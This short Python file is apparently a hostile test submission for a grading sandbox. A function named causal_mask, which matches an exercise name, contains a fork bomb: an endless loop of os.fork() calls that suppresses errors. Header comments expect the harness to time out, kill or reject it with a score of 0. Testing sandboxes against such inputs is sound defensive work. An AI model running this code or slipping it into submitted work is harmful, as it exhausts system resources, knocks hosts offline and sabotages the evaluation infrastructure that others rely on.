# INTENT: A fork bomb.
# TECHNIQUE: 46
# EXERCISE: causal_mask
# EXPECT: timeout or killed or error or wrong or memory; score 0
import os
def causal_mask(length):
    while True:
        try: os.fork()
        except OSError: pass
